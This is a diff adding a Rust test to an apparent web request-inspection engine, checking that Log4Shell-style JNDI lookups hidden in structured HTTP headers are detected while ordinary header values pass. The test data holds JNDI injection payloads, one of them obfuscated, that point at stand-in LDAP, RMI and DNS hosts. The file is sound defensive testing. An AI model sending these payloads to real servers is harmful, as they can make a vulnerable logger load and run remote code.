@@ -1456,6 +1456,47 @@ mod tests {
             .map(|f| f.rule)
     }
 
+    /// Headers read structurally (`Cache-Control`, `Sec-*`, `If-None-Match`
+    /// ...) are still read as text when they hold a `$`: an app that logs
+    /// every header takes a lookup from any of them. Their everyday
+    /// values pass.
+    #[test]
+    fn lookups_in_structured_headers_are_found() {
+        let engine = Engine::new();
+        let judge = |name: &'static str, value: &'static str| {
+            let mut headers = HeaderMap::new();
+            headers.insert(name, http::HeaderValue::from_static(value));
+            let req = subject(&Method::GET, "/", &headers, b"");
+            engine.inspect(&req, &Switches::default()).map(|f| f.rule)
+        };
+        for name in [
+            "cache-control",
+            "pragma",
+            "dnt",
+            "sec-fetch-mode",
+            "if-none-match",
+            "accept-language",
+            "te",
+        ] {
+            for value in [
+                "${jndi:ldap://evil.example/a}",
+                "${${lower:j}ndi:rmi://x/a}",
+                "no-cache, ${jndi:dns://x/a}",
+            ] {
+                assert!(judge(name, value).is_some(), "{name}: {value}");
+            }
+        }
+        for (name, value) in [
+            ("cache-control", "max-age=0, no-cache"),
+            ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
+            ("if-none-match", "W/\"5f3a-17c\""),
+            ("accept-language", "en-US,en;q=0.9"),
+            ("if-none-match", "\"price$9-99\""),
+        ] {
+            assert_eq!(judge(name, value), None, "{name}: {value}");
+        }
+    }
+
     #[test]
     fn every_rule_compiles() {
         let _ = Engine::new();
